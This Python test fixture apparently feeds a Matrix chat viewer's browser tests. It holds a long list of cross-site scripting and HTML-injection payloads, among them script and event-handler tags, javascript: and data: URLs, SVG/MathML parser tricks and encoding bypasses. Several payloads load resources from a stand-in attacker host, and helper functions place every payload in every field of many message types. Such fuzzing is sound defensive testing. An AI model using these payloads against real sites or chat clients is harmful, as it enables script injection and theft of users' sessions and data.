"""Attacks on whoever looks at a page, by what may be written into any field.

CODE calls a function that tests watch, AWAY is an address that nothing may be asked of.
Stands on nothing; test_viewer_browser.py plays them.
"""

AWAY = "//evil.example/"

_PAYLOADS = r"""
<script>CODE</script>
<script src=AWAY></script>
<SCRIPT SRC=https:AWAYx.js></SCRIPT>
<scr<script>ipt>CODE</scr</script>ipt>
</title><script>CODE</script>
</textarea><script>CODE</script>
</style><script>CODE</script>
--><script>CODE</script><!--
]]><script>CODE</script>
"><script>CODE</script>
'><script>CODE</script>
"'`><img src=x onerror=CODE>
<img src=x onerror=CODE>
<img src=x onerror="CODE">
<img/src=x/onerror=CODE>
<img src="x" title="a"onerror=CODE>
<img src=`x`onerror=CODE>
<img	src=x
onerror
=
CODE>
<img src=https:AWAYa.png>
<img srcset="https:AWAYb.png 1x" src=x>
<img src=mxc://localhost/x onerror=CODE>
<img src="mxc://localhost/x&quot; onerror=&quot;CODE">
<img src='mxc://localhost/"onerror=CODE//'>
<picture><source srcset=https:AWAYc.png><img></picture>
<svg onload=CODE>
<svg><script>CODE</script></svg>
<svg><animate onbegin=CODE attributeName=x dur=1s>
<svg><a xlink:href="javascript:CODE"><text y=20>here</text></a></svg>
<svg><foreignObject><iframe onload=CODE></iframe></foreignObject></svg>
<svg><style><img src=x onerror=CODE></style></svg>
<svg></p><style><a title="</style><img src=x onerror=CODE>">
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='CODE'/></svg>#x">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CODE&gt;">
<math><mi//xlink:href="data:x,<script>CODE</script>">
<math href="javascript:CODE">here</math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CODE>
<a href="javascript:CODE">here</a>
<a href="JaVaScRiPt:CODE">here</a>
<a href=" &#14; javascript:CODE">here</a>
<a href="java&#9;script:CODE">here</a>
<a href="java&NewLine;script:CODE">here</a>
<a href="javascript&colon;CODE">here</a>
<a href="&#x6A&#x61vascript:CODE">here</a>
<a href="vbscript:CODE">here</a>
<a href="data:text/html,<script>CODE</script>">here</a>
<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">here</a>
<a href="https://example.org/" onmouseover=CODE onfocus=CODE autofocus tabindex=1>here</a>
<a href="https://example.org/&quot; onmouseover=&quot;CODE">here</a>
<a href='https://example.org/"onmouseover=CODE//'>here</a>
<a href="https://example.org/" style="animation:x" onanimationstart=CODE>here</a>
<a href="https:AWAYp" ping="https:AWAYping">here</a>
<iframe src="javascript:CODE"></iframe>
<iframe srcdoc="<script>parent.CODE</script>"></iframe>
<iframe src=https:AWAYf></iframe>
<object data="javascript:CODE"></object>
<object data=https:AWAYo></object>
<embed src=https:AWAYe>
<embed code="javascript:CODE">
<applet code=x onerror=CODE></applet>
<video src=x onerror=CODE></video>
<video poster=https:AWAYv.png></video>
<video><source onerror=CODE></video>
<audio src=https:AWAYs.ogg onerror=CODE autoplay></audio>
<body onload=CODE>
<body background=https:AWAYbg.png>
<html onmousemove=CODE>
<details open ontoggle=CODE><summary>x</summary></details>
<marquee onstart=CODE>x</marquee>
<input autofocus onfocus=CODE>
<select autofocus onfocus=CODE></select>
<textarea autofocus onfocus=CODE></textarea>
<button formaction="javascript:CODE">here</button>
<form action="javascript:CODE"><input type=submit></form>
<form action=https:AWAYform><button>here</button></form>
<isindex action="javascript:CODE" type=submit>
<base href=https:AWAY>
<meta http-equiv=refresh content="0;url=javascript:CODE">
<meta http-equiv=refresh content="0;url=https:AWAYmeta">
<link rel=stylesheet href=https:AWAYl.css>
<link rel=prefetch href=https:AWAYprefetch>
<link rel=preload as=image href=https:AWAYpreload>
<style>@import 'https:AWAYi.css'; body{background:url(https:AWAYs.png)}</style>
<div style="background:url(https:AWAYd.png)">x</div>
<font color="red;background:url(https:AWAYfont.png)">x</font>
<span data-mx-color="#f00;background:url(https:AWAYmx.png)">x</span>
<span data-mx-color='"onclick=CODE x="'>x</span>
<span data-mx-spoiler="&lt;img src=x onerror=CODE&gt;">x</span>
<span data-mx-maths="</span><img src=x onerror=CODE>">x</span>
<code class="language-&quot;onclick=CODE">x</code>
<code class="language-x&quot;><img src=x onerror=CODE>">x</code>
<ol start='1"onclick=CODE'><li>x</ol>
<table><td background=https:AWAYtd.png>x
<table><caption><img src=x onerror=CODE></table>
<noscript><p title="</noscript><img src=x onerror=CODE>">
<template><img src=x onerror=CODE></template>
<template shadowrootmode=open><script>CODE</script></template>
<xmp><p title="</xmp><img src=x onerror=CODE>">
<plaintext><img src=x onerror=CODE>
<listing>&lt;img src=x onerror=CODE&gt;</listing>
<select><template><img src=x onerror=CODE></template></select>
<mx-reply><img src=x onerror=CODE></mx-reply>
<!--><img src=x onerror=CODE>-->
<!--[if gte IE 4]><script>CODE</script><![endif]-->
<![CDATA[<img src=x onerror=CODE>]]>
<?xml-stylesheet href="javascript:CODE"?>
<?php <img src=x onerror=CODE> ?>
<!doctype html><script>CODE</script>
<p/onclick=CODE/id=lines class="line said">x</p>
<p id=main name=log data-live=https:AWAYlive data-from=s1_e1 class=log>x</p>
<img name=getElementById src=x><form name=body></form><a id=lines href=x></a>
&lt;script&gt;CODE&lt;/script&gt;
&amp;lt;img src=x onerror=CODE&amp;gt;
&#60;img src=x onerror=CODE&#62;
\u003cimg src=x onerror=CODE\u003e
＜img src=x onerror=CODE＞
{{constructor.constructor('CODE')()}}
${CODE}
{=text}{?href}{/}{~edited}<b onclick=CODE>
%3Cimg%20src=x%20onerror=CODE%3E
javascript:CODE
javascript://example.org/%0aCODE
data:text/html,<script>CODE</script>
https://example.org/"onmouseover=CODE//
https://example.org/'><img src=x onerror=CODE>
https://x.example/<img/src=x/onerror=CODE>
http://[javascript:CODE]
mxc://localhost/"><img src=x onerror=CODE>
mxc://evil.example/picture
https:AWAYplain.png
geo:1,2"><img src=x onerror=CODE>
matrix:r/x:y"><img src=x onerror=CODE>
@"><img src=x onerror=CODE>:localhost
data: <img src=x onerror=CODE>
event: closed
""".strip("\n")


def payloads():
    """All of them; what each calls tells which it is."""
    found, lines = [], _PAYLOADS.split("\n")
    at = 0
    while at < len(lines):
        text = lines[at]
        if text.startswith("<img\t"):  # one over several lines
            text = "\n".join(lines[at:at + 4])
            at += 3
        found.append(text)
        at += 1
    found += ["\u202e<img src=x onerror=CODE>\u202c", "<img src=x onerror=CODE\u2028>",
              "\ufeff<script>CODE</script>", "<\ufffdscript>CODE</script>",
              "x\n\nevent: closed\ndata: <img src=x onerror=CODE>\n\n",
              "x\r\rdata: y\r\revent: again\r\r",
              "<" * 300 + "img src=x onerror=CODE>", "<b>" * 200 + "<img src=x onerror=CODE>",
              "<a href=\"javascript:" + "/**/" * 50 + "CODE\">here</a>"]
    return [text.replace("CODE", f"pwned({n})").replace("AWAY", AWAY + f"{n}/")
            for n, text in enumerate(found)]


def contents(p, mxc, known):
    """[(type, content)]: every kind of message with the payload in each of its fields.
    known: an event of the room, to which some relate."""
    html = {"format": "org.matrix.custom.html", "formatted_body": p}
    info = {"mimetype": p, "w": 640, "h": 480, "size": 1, "thumbnail_url": p,
            "xyz.amorgan.blurhash": p, "thumbnail_info": {"mimetype": p}}
    found = [("m.room.message", {"msgtype": kind, "body": p, **html})
             for kind in ("m.text", "m.notice", "m.emote", p, "m.unknown")]
    for kind in ("m.image", "m.video", "m.audio", "m.file"):
        found.append(("m.room.message", {"msgtype": kind, "body": p, "filename": "needle " + p,
                                         "url": mxc, "info": info, **html}))
    found.append(("m.room.message", {"msgtype": "m.image", "body": p, "url": p, "info": info}))
    found.append(("m.room.message", {"msgtype": "m.file", "body": p, "file": {"url": p},
                                     "info": info}))
    found.append(("m.room.message", {"msgtype": "m.location", "body": p, "geo_uri": p}))
    found.append(("m.room.message", {"msgtype": "m.location", "body": p,
                                     "geo_uri": "geo:1,2;u=" + p, "info": info}))
    found.append(("m.room.message", {"msgtype": "m.text", "body": "needle " + p, "format": p,
                                     "formatted_body": p}))
    relation = {"m.in_reply_to": {"event_id": known}}
    found.append(("m.room.message", {"msgtype": "m.text", "body": f"> <{p}> {p}\n\n{p}", **html,
                                     "m.relates_to": relation}))
    found.append(("m.room.message", {"msgtype": "m.text", "body": p, "m.relates_to": {
        "m.in_reply_to": {"event_id": p}, "rel_type": p, "event_id": p}}))
    found.append(("m.room.message", {"msgtype": "m.text", "body": p, **html, "m.relates_to": {
        "rel_type": "m.thread", "event_id": known}}))
    found.append(("m.sticker", {"body": p, "url": mxc, "info": info}))
    found.append(("m.sticker", {"body": p, "url": p, "info": {"w": p, "h": p}}))
    answers = [{"m.id": p, "m.text": [{"body": p}]}, {"m.id": "x", "m.text": p}]
    found.append(("m.poll.start", {"m.poll": {"kind": p, "question": {"m.text": [{"body": p}]},
                                              "answers": answers}, "m.text": [{"body": p}]}))
    found.append(("org.matrix.msc3381.poll.start", {"org.matrix.msc3381.poll.start": {
        "kind": "org.matrix.msc3381.poll.disclosed", "question": {"org.matrix.msc1767.text": p},
        "answers": [{"id": p, "org.matrix.msc1767.text": p}]}}))
    found.append(("m.room.encrypted", {"algorithm": p, "ciphertext": p, "sender_key": p}))
    found.append(("m.reaction", {"m.relates_to": {"rel_type": "m.annotation", "event_id": known,
                                                  "key": p}}))
    if len(p.encode()) <= 255:
        found.append((p, {"body": p, "msgtype": "m.text"}))
    return found
